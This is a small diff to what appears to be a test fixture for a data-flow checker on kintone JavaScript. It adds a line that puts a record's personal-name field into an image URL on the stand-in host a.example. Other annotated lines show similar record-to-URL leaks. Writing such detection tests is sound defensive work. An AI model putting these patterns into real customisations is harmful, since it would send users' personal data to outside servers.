@@ -24,6 +24,7 @@ kintone.events.on('app.record.detail.show', (event) => {
   inside.innerHTML = `<table background='https://a.example/${name}'></table>`; // flow: record -> request-url
   inside.innerHTML = `<a href="https://a.example/?src=${name}">x</a>`;
   inside.innerHTML = `<img alt="src=https://a.example/${name}" src="https://a.example/1.png">`;
+  inside.innerHTML = '<img src="https://a.example/?b=' + event.record.氏名.value + '">'; // flow: record -> request-url
   const ahead = document.createElement('link');
   ahead.setAttribute('imagesrcset', `https://a.example/${name} 1x`); // flow: record -> request-url
   return event;
